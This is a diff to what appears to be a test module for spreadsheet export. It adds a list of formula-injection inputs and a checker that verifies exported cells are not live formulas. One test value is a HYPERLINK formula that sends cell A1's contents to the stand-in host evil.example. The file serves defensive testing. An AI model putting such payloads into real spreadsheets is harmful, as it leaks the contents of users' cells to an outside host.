@@ -80,3 +80,26 @@ def empty_rows(header_cells, data_rows, *, count=1_000_000) -> bytes:
         for n in range(start, start + count, 1000):
             yield "".join(f'<row r="{k}"><c r="A{k}" s="0"/></row>' for k in range(n, min(n + 1000, start + count)))
     return xlsx(chunks())
+
+
+# Text that Excel, LibreOffice or WPS would take for a formula if it were written as one (issue 11 #5).
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1", "-1+2", "@SUM(A1:A9)", "\t=1", "\r=1"]
+
+
+def assert_no_formula(data: bytes, *, allowed=()) -> list:
+    """Reopens the workbook: no cell is a formula (except those in `allowed`, the product's own), every text that
+    starts like one carries the quote prefix. Returns every cell value, for further checks."""
+    from openpyxl import load_workbook
+
+    values = []
+    for ws in load_workbook(io.BytesIO(data)).worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                values.append(cell.value)
+                if cell.data_type == "f":
+                    assert (ws.title, cell.coordinate) in allowed or cell.value in allowed, (ws.title, cell.coordinate,
+                                                                                             cell.value)
+                    continue
+                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
+                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
+    return values
